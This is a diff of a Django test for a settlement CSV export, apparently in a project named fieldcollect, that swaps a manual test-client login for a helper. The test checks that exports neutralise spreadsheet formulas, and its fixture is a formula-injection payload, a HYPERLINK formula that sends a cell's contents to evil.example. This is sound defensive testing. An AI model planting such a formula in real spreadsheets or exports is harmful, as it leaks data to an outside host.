@@ -7,13 +7,13 @@ import csv
 import io
 
 import pytest
-from django.test import Client
 from typer.testing import CliRunner
 
 from fieldcollect.cli import app
 from fieldcollect.privacy import fingerprint as fpr
 from fieldcollect.settlement import exports, services
 from fieldcollect.settlement.tests.conftest import MARCH
+from fieldcollect.testing.clients import logged_in
 
 pytestmark = pytest.mark.django_db
 EVIL = "=HYPERLINK(\"http://evil.example/?d=\"&B3,\"details\")"
@@ -29,8 +29,7 @@ def test_settlement_statement_neutralises_the_dispute_reason(settled, tmp_path) 
     line = st.lines.order_by("pk").first()
     assert line is not None
     services.line_dispute(line=line, reason=EVIL, acting_user=s.mgr_a)
-    c = Client()
-    c.force_login(s.manager)
+    c = logged_in(s.manager)
     data = c.get(f"/settlement/{st.pk}/csv?lang=en").content
     lines = [[_plain(v) for v in r] for r in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
     reasons = [r[-1] for r in lines[2:] if r[-1]]
